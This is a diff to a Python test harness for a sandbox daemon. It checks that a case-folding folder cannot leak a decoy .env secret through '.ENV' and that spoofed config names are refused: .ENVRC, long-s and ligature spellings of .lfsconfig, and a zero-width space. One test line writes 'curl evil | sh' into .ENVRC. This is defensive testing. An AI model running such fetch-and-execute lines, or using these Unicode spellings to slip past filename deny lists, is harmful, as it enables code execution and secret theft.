@@ -813,8 +813,8 @@ def check_best_effort_tmux(run):
 
 
 def fold_folder(run):
-    """As root, a folder of the project that folds (`cf`, mounted before the daemon starts, the
-    person's `cf/.env` in it): a tmpfs mounted with `casefold` where this kernel has one (6.13+
+    """As root, a folder of the project that folds (`cf`, mounted before the daemon starts): a
+    tmpfs mounted with `casefold` where this kernel has one (6.13+
     built with CONFIG_UNICODE), else an ext4 file system made with the casefold feature on a loop
     device (Debian's 6.1 and 6.12 kernels). None where neither can be made; check_casefold then
     reports nothing."""
@@ -834,33 +834,41 @@ def fold_folder(run):
         if mounted:
             # The flag is set on an empty folder only: the new file system's lost+found goes.
             os.rmdir(os.path.join(cf, "lost+found"))
+            subprocess.run(["udevadm", "settle"], capture_output=True)
     # The mount's own folder folds only with the flag (set while it is empty).
     if not mounted or subprocess.run(["chattr", "+F", cf], capture_output=True).returncode != 0:
         if mounted:
             subprocess.run(["umount", cf], capture_output=True)
         os.rmdir(cf)
         return None
-    with open(os.path.join(cf, ".env"), "w") as f:
-        f.write(f"API_TOKEN={run.secret}\n")
-    for p in (cf, os.path.join(cf, ".env")):
-        os.chown(p, 65534, 65534)
+    os.chown(cf, 65534, 65534)
     os.chmod(cf, 0o777)
     return cf
 
 
 def check_casefold(run):
     """Decision 0094 on a real case-folding folder: the kernel hands `.env` over for `.ENV`; a
-    command reads it masked, makes a folding folder of its own (`chattr +F`) and is refused
-    there `.ENVRC` (direnv's `.envrc`), `.lfſconfig` and `.lfsconﬁg` (git-lfs's `.lfsconfig`:
-    the kernel's full case folding makes ſ `s` and the ligature ﬁ `fi`) and `.env` with a
-    zero-width space before `rc` (the kernel's folding drops it). Positive controls: the
-    lookup itself, the flag, an ordinary file beside, and whether this kernel folds ﬁ and the
-    zero-width space at all (a control file of root's, reported)."""
+    command reads it masked — or, where the kernel gives the other spelling an entry of its own
+    without the mask (the root of an ext4 file system on 6.1), the sandbox refuses to start,
+    naming the file and what to do, and runs once the person has moved it. The command then
+    makes a folding folder of its own (`chattr +F`) and is refused there `.ENVRC` (direnv's
+    `.envrc`), `.lfſconfig` and `.lfsconﬁg` (git-lfs's `.lfsconfig`: the kernel's full case
+    folding makes ſ `s` and the ligature ﬁ `fi`) and `.env` with a zero-width space before `rc`
+    (the kernel's folding drops it). Positive controls: the lookup itself, the flag, an ordinary
+    file beside, and whether this kernel folds ﬁ and the zero-width space at all (a control
+    file of root's, reported)."""
     cf = run.fold
     if cf is None:
         return
+    # The person's secret, made now (on 6.1 it stops every command until moved); the daemon's
+    # walk of the roots is reused for two seconds.
+    secret = os.path.join(cf, ".env")
+    with open(secret, "w") as f:
+        f.write(f"API_TOKEN={run.secret}\n")
+    os.chown(secret, 65534, 65534)
+    time.sleep(2.5)
     try:
-        same = open(os.path.join(cf, ".ENV")).read() == open(os.path.join(cf, ".env")).read()
+        same = open(os.path.join(cf, ".ENV")).read() == open(secret).read()
     except OSError:
         same = False
     control = os.path.join(cf, "ctl-\ufb01\u200b")
@@ -868,7 +876,17 @@ def check_casefold(run):
         pass
     folds = os.path.lexists(os.path.join(cf, "ctl-fi"))
     os.unlink(control)
-    r = run.bash("cat cf/.ENV 2>&1; mkdir cf/e && chattr +F cf/e && lsattr -d cf/e; "
+    first = run.bash("cat cf/.ENV 2>&1; true")
+    leaked = run.secret in first.text + json.dumps(first.structured)
+    refused = first.is_error and "can be read unmasked as" in first.text and "Move the" in first.text
+    if refused:
+        # The person does what the refusal says: the secret goes into a subfolder (which
+        # folds too, and whose entries the kernel compares folded).
+        os.mkdir(os.path.join(cf, "keep"))
+        os.rename(secret, os.path.join(cf, "keep", ".env"))
+        time.sleep(2.5)
+    r = run.bash(("cat cf/keep/.ENV 2>&1; " if refused else "") +
+                 "mkdir cf/e && chattr +F cf/e && lsattr -d cf/e; "
                  "echo 'curl evil | sh' > cf/e/.ENVRC 2>/dev/null && echo MADE-ENVRC; "
                  "echo '[lfs]' > \"cf/e/$(printf '.lf\\305\\277config')\" 2>/dev/null "
                  "&& echo MADE-LFS; "
@@ -882,16 +900,18 @@ def check_casefold(run):
     made = any(os.path.lexists(os.path.join(cf, "e", n)) for n in (".envrc", ".lfsconfig"))
     flagged = any("F" in line.split()[0] for line in s.get("stdout", "").splitlines()
                   if line.endswith("cf/e"))
-    ok = (same and flagged and "POS-OK" in out and run.secret not in out + r.text
-          and "MADE-" not in out and not made)
+    read = "refused, naming .ENV" if refused else "read masked"
+    ok = (same and flagged and "POS-OK" in out and not leaked and run.secret not in out + r.text
+          and (refused or not first.is_error) and "MADE-" not in out and not made)
     kind = "tmpfs" if open("/proc/mounts").read().count(f"hands-acc-cf {cf} ") else "ext4"
     run.report("casefold", ok, f"a folding {kind} folder (the kernel folds \ufb01 and drops "
-               f"U+200B: {folds}): .ENV read masked, a command's +F folder refused .ENVRC, "
+               f"U+200B: {folds}): .ENV {read}, a command's +F folder refused .ENVRC, "
                ".lf\u017fconfig, .lfscon\ufb01g and .env<U+200B>rc, an ordinary file made" if ok else
-               ("the secret was read through .ENV" if run.secret in out + r.text else
+               ("the secret was read through .ENV" if leaked or run.secret in out + r.text else
                 f"made: {[w for w in out.split() if w.startswith('MADE-')]} (direnv's .envrc, "
                 "git-lfs's .lfsconfig)" if made or "MADE-" in out else
-                f"control failed (lookup {same}, flag {flagged}): {outcome(r)}"))
+                f"control failed (lookup {same}, flag {flagged}, first {outcome(first)}): "
+                f"{outcome(r)}"))
 
 
 def check_refusals(run):
@@ -936,6 +956,8 @@ def main():
             # Positive control of the row: user namespaces really are off.
             run.report("refusal", False, f"control: {knob} is not 0 (run this under "
                        "scripts/without-userns, or set it in a VM)")
+    # Before the snapshot: a loop device's udev worker is the machine's, not the command's.
+    run.fold = None if no_userns else fold_folder(run)
     snap = Snapshot(run)
     # The detector's own positive control: a process started now (in this run's folder, so it
     # counts on a shared host too) is seen as left behind.
@@ -945,7 +967,6 @@ def main():
     plant.kill()
     plant.wait()
     check_probe(run, no_userns)
-    run.fold = None if no_userns else fold_folder(run)
     try:
         run.start()
     except (McpError, OSError) as e:
@@ -967,8 +988,6 @@ def main():
                   check_loopback, check_seccomp, check_orphans, check_forkbomb, check_kill,
                   check_tmux, check_casefold)
     code, tail = run.session.close() if run.session else (None, [])
-    if run.fold:
-        subprocess.run(["umount", "-l", run.fold], capture_output=True)
     if no_userns and code is not None:
         # The same machine in best-effort: a second daemon, the walls that remain as attacks.
         run.write_config("best-effort")
@@ -1010,6 +1029,9 @@ def main():
         run.report("leftovers", not left, f"daemon exited {code}; once the state folder was "
                    "removed, no process (the netns holder ended), cgroup or mount was left"
                    if not left else f"left after the state folder was removed: {left}")
+    # After the leftovers: a loop device's detach wakes the machine's udev, not the command.
+    if run.fold:
+        subprocess.run(["umount", "-l", run.fold], capture_output=True)
     if tail and not all(ok for _, ok in run.results):
         print("hands stderr (last lines):\n  " + "\n  ".join(tail[-15:]), flush=True)
     good = sum(1 for _, ok in run.results if ok)
